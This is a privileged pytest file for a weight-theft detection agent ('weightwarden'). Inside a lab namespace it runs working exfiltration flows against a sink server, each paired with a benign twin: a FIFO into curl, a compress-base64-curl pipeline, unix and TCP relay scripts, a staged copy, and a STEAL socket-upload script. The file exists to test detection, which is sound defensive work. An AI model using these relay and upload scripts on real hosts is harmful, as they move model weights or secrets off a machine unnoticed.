"""The real flows a thief uses, end to end: the real agent (eBPF attribution, file watcher), real
processes in a pod-shaped cgroup and their own network namespace, real weight files and real
bytes to a server outside, and the collector's pipeline judging the agent's own events.

Each theft must end as a linked verdict (``exfiltration`` / ``staged_exfiltration``) naming the
sender and the reader; each has a benign twin of the same shape carrying unrelated data while
the weights are read elsewhere on the host, which must raise no linked verdict and nothing high:

- a named pipe: ``cat weights > fifo & curl -T fifo``;
- a three-stage pipeline: ``python (compress) | base64 | curl -T -``;
- a unix-socket relay: a reader hands the bytes to a forwarding process that uploads them;
- a loopback relay: the same through a TCP proxy on 127.0.0.1;
- a staged copy uploaded at once: ``cp weights stage && curl -T stage``;
- a container: the alert names the pod.

Senders are rate-limited (as any upload of real size takes seconds): the agent names a pipeline's
stages from /proc while they live.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.corpus.replay import message
from tests.helpers.agent_run import DaemonRun
from tests.helpers.containers import POD_UID, Lab, make_lab, require_loader
from tests.helpers.flaky import load_sensitive
from tests.helpers.netns import wait_for
from weightwarden.collector.ingest.pipeline import Pipeline
from weightwarden.collector.store.database import Store

pytestmark = pytest.mark.privileged

PORT = 8095
SIZE = 12 << 20
RATE = "4M"  # curl --limit-rate: a 12 MiB upload takes about three seconds
PODS = Path("/var/log/pods")
POD_NS, POD_NAME = "ml", "llama-serve-7d9f"

STREAM = """import sys, zlib
z = zlib.compressobj(1)
with open(sys.argv[1], "rb") as f:
    for block in iter(lambda: f.read(1 << 16), b""):
        sys.stdout.buffer.write(z.compress(block))
sys.stdout.buffer.write(z.flush())
"""
RELAY = """import socket, sys, time, os
kind, where, addr, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
if kind == "unix":
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(where)
else:
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", int(where)))
srv.listen(1)
print("ready", flush=True)
conn, _ = srv.accept()
out = socket.create_connection((addr, port))
while True:
    data = conn.recv(1 << 16)
    if not data:
        break
    out.sendall(data)
    time.sleep(len(data) / 4e6)
out.close()
"""
FEED = """import socket, sys
kind, where, path = sys.argv[1], sys.argv[2], sys.argv[3]
s = socket.socket(socket.AF_UNIX) if kind == "unix" else socket.socket()
s.connect(where if kind == "unix" else ("127.0.0.1", int(where)))
s.sendall(open(path, "rb").read())
s.close()
"""
STEAL = """import socket, sys, time
data = open(sys.argv[1], "rb").read()
s = socket.create_connection((sys.argv[2], int(sys.argv[3])))
for i in range(0, len(data), 65536):
    s.sendall(data[i:i + 65536])
    time.sleep(65536 / 4e6)
s.close()
"""


class _HostNs:
    """What DaemonRun needs of a namespace pair, for the lab's host namespace (nsenter --net, not
    `ip netns exec`, which remounts /sys and hides the cgroup hierarchy the eBPF path attaches to)."""

    def __init__(self, lab: Lab) -> None:
        self.a = lab.host
        self.procs = lab.procs

    def popen(self, ns: str, *argv: str, **kw: Any) -> subprocess.Popen[bytes]:
        proc: subprocess.Popen[bytes] = subprocess.Popen(["nsenter", f"--net=/run/netns/{ns}", *argv], **kw)
        self.procs.append(proc)
        return proc


@dataclass
class Flows:
    lab: Lab
    agent: DaemonRun
    weights: Path
    data: Path  # unrelated data of the same size class
    work: Path  # where the pod's processes make FIFOs, sockets and copies

    def url(self) -> str:
        return f"http://{self.lab.out_addr}:{PORT}/u"

    def curl(self, src: str) -> str:
        return f"curl -sS -H Expect: --limit-rate {RATE} -T {src} {self.url()}"

    def pod(self, script: str) -> subprocess.Popen[bytes]:
        """A shell in the pod (its cgroup, network and a mount namespace of its own), nothing shared."""
        return self.lab.popen_ctr("sh", "-c", script, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                  stderr=subprocess.PIPE)

    def read_elsewhere(self) -> subprocess.Popen[bytes]:
        """A process that reads the weights and does nothing else with them (a checksum)."""
        return self.pod(f"exec sha256sum {self.weights} > /dev/null")


@pytest.fixture(scope="module")
def flows(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flows]:
    require_loader()
    lab = make_lab()
    models = Path(tempfile.mkdtemp(prefix="ww-flows-", dir="/srv" if os.path.isdir("/srv") else None))
    made_pods = not PODS.exists()
    pod_dir = PODS / f"{POD_NS}_{POD_NAME}_{POD_UID}"  # the kubelet's log directory names the pod
    try:
        pod_dir.mkdir(parents=True)
        work = tmp_path_factory.mktemp("flows")
        os.chmod(work, 0o777)
        weights = models / "model-00001-of-00001.safetensors"
        weights.write_bytes(os.urandom(SIZE))
        data = work / "dataset.bin"
        policy = work / "policy.yaml"
        policy.write_text(f"apiVersion: weightwarden/v1\nkind: EgressPolicy\nmetadata: {{name: flows}}\n"
                          f"spec:\n  interval: 1s\n  weights:\n    paths: [\"{models}/*.safetensors\"]\n")
        lab.sink(PORT, PORT + 1)
        agent = DaemonRun(_HostNs(lab), policy, work / "state", "--attribution", "ebpf",  # type: ignore[arg-type]
                          "--bpf-cgroup", str(lab.root), "--heartbeat-interval", "2")
        agent.wait_event("agent_started", timeout=30)
        sample = agent.wait_event("egress_sample", timeout=30)
        # The twins' unrelated data: as large as the weights where the agent says its sensor saw everything
        # (the host-level rule then leaves named, unlinked senders at medium); otherwise under a tenth of them,
        # so that rule, which cannot tell the data from the weights, has nothing to say either.
        sensor = sample["data"].get("sensor") or {}
        whole = sensor.get("path") == "ebpf" and not sensor.get("degraded")
        data.write_bytes(os.urandom(SIZE if whole else SIZE // 16))
        yield Flows(lab, agent, weights, data, work)
        agent.stop()
    finally:
        lab.teardown()
        shutil.rmtree(models, ignore_errors=True)
        shutil.rmtree(pod_dir, ignore_errors=True)
        if made_pods:
            shutil.rmtree(PODS, ignore_errors=True)


def judge(f: Flows, procs: list[subprocess.Popen[bytes]], db: Path, theft: bool,
          sender: str | None = None) -> list[dict[str, Any]]:
    """Feed the agent's events from now on to a fresh collector until the processes are done and a
    linked verdict naming ``sender`` stands (a theft), or a while after they are done (a twin)."""
    start = len(f.agent.events)
    pipe = Pipeline(Store(f"sqlite:///{db}"))
    pipe.ingest([message(e) for e in f.agent.events[:start] if e["type"] != "egress_sample"])
    fed = start

    def feed() -> list[dict[str, Any]]:
        nonlocal fed
        new = f.agent.events[fed:]
        fed += len(new)
        if new:
            assert pipe.ingest([message(e) for e in new])["rejected"] == 0
        return [a for a in pipe.store.alerts() if a["kind"] in ("exfiltration", "staged_exfiltration")
                and (sender is None or a["evidence"]["process"]["name"] == sender)]

    assert wait_for(lambda: all(p.poll() is not None for p in procs), 60), "the scenario did not finish"
    for p in procs:
        err = p.stderr.read().decode() if p.stderr else ""
        assert p.returncode == 0, (p.args, err)
    if theft:
        wait_for(lambda: bool(feed()), 20, 0.2)
    time.sleep(3.0)  # reads reported at close and the last samples count for the final verdict
    feed()
    pipe.sweep()
    assert not pipe.errors, pipe.errors
    got = pipe.store.alerts()
    pipe.store.close()
    time.sleep(1.0)  # the next scenario's facts start after this one's
    return got


def linked(alerts: list[dict[str, Any]], sender: str, reader: str, weights: Path, lab: Lab) -> dict[str, Any]:
    found = [a for a in alerts if a["kind"] in ("exfiltration", "staged_exfiltration")
             and a["evidence"]["process"]["name"] == sender]
    assert found, [(a["kind"], a["severity"], a["title"]) for a in alerts]
    a = max(found, key=lambda x: ["low", "medium", "high", "critical"].index(x["severity"]))
    ev = a["evidence"]
    assert a["severity"] in ("high", "critical"), (a["severity"], a["explanation"])
    assert any(link["reader"]["name"] == reader for link in ev["links"]), ev["links"]
    assert any(str(weights) in x for x in ev["files"]), ev["files"]
    assert any(lab.out_addr == d["address"] for d in ev["destinations"]), ev["destinations"]
    return a


def quiet(alerts: list[dict[str, Any]]) -> None:
    """The twin: no linked verdict, nothing high or critical."""
    assert not [a for a in alerts if a["kind"] in ("exfiltration", "staged_exfiltration")], alerts
    loud = [(a["kind"], a["severity"], a["title"]) for a in alerts if a["severity"] in ("high", "critical")]
    assert not loud, loud


def test_a_named_pipe(flows: Flows, tmp_path: Path) -> None:
    w = flows.work
    theft = flows.pod(f"rm -f {w}/f && mkfifo {w}/f && (cat {flows.weights} > {w}/f &) && exec {flows.curl(f'{w}/f')}")
    a = linked(judge(flows, [theft], tmp_path / "t.db", True, "curl"), "curl", "cat", flows.weights, flows.lab)
    assert any(link["kind"] == "pipe" for link in a["evidence"]["links"])
    reader = flows.read_elsewhere()
    twin = flows.pod(f"rm -f {w}/g && mkfifo {w}/g && (cat {flows.data} > {w}/g &) && exec {flows.curl(f'{w}/g')}")
    quiet(judge(flows, [reader, twin], tmp_path / "b.db", False))


def test_a_three_stage_pipeline(flows: Flows, tmp_path: Path) -> None:
    stream = f"python3 -c '{STREAM}'"
    theft = flows.pod(f"{stream} {flows.weights} | base64 | {flows.curl('-')}")
    a = linked(judge(flows, [theft], tmp_path / "t.db", True, "curl"), "curl", "python3", flows.weights, flows.lab)
    [link] = [x for x in a["evidence"]["links"] if x["kind"] == "pipe"]
    assert [r["name"] for r in link["relays"]] == ["base64"], link
    assert "base64" in a["explanation"]
    reader = flows.read_elsewhere()
    twin = flows.pod(f"{stream} {flows.data} | base64 | {flows.curl('-')}")
    quiet(judge(flows, [reader, twin], tmp_path / "b.db", False))


@load_sensitive  # the unix relay ended unlinked (host_exfiltration medium only) once in four runs: open, issue 22
@pytest.mark.parametrize("via", ["unix", "tcp"])
def test_a_relay(flows: Flows, tmp_path: Path, via: str) -> None:
    where = str(flows.work / f"r-{via}.sock") if via == "unix" else "18090"

    def run(src: Path) -> list[subprocess.Popen[bytes]]:
        if via == "unix" and os.path.exists(where):
            os.unlink(where)
        relay = flows.lab.popen_ctr("python3", "-c", RELAY, via, where, flows.lab.out_addr, str(PORT),
                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert relay.stdout is not None and relay.stdout.readline().strip() == b"ready"
        relay.stdout.close()
        relay.stdout = None
        feeder = flows.lab.popen_ctr("python3", "-c", FEED, via, where, str(src), stderr=subprocess.PIPE)
        return [relay, feeder]

    a = linked(judge(flows, run(flows.weights), tmp_path / "t.db", True, "python3"), "python3", "python3",
               flows.weights, flows.lab)
    assert any(link["kind"] == "relay" for link in a["evidence"]["links"])
    reader = flows.read_elsewhere()
    quiet(judge(flows, [reader, *run(flows.data)], tmp_path / "b.db", False))


def test_a_staged_copy_uploaded_at_once(flows: Flows, tmp_path: Path) -> None:
    w = flows.work
    theft = flows.pod(f"cp {flows.weights} {w}/blob && exec {flows.curl(f'{w}/blob')}")
    a = linked(judge(flows, [theft], tmp_path / "t.db", True, "curl"), "curl", "cp", flows.weights, flows.lab)
    assert a["kind"] == "staged_exfiltration" and a["evidence"]["staged_from"] == [str(flows.weights)]
    reader = flows.read_elsewhere()
    twin = flows.pod(f"cp {flows.data} {w}/blob2 && exec {flows.curl(f'{w}/blob2')}")
    quiet(judge(flows, [reader, twin], tmp_path / "b.db", False))


def test_a_container_is_named_by_its_pod(flows: Flows, tmp_path: Path) -> None:
    theft = flows.lab.popen_ctr("python3", "-c", STEAL, str(flows.weights), flows.lab.out_addr, str(PORT),
                                stderr=subprocess.PIPE)
    a = linked(judge(flows, [theft], tmp_path / "t.db", True, "python3"), "python3", "python3", flows.weights,
               flows.lab)
    container = a["evidence"]["process"]["container"]
    assert container["pod_uid"] == POD_UID and container["pod_name"] == POD_NAME, container
    assert f"pod {POD_NS}/{POD_NAME}" in a["explanation"]
    reader = flows.read_elsewhere()
    twin = flows.lab.popen_ctr("python3", "-c", STEAL, str(flows.data), flows.lab.out_addr, str(PORT),
                               stderr=subprocess.PIPE)
    quiet(judge(flows, [reader, twin], tmp_path / "b.db", False))
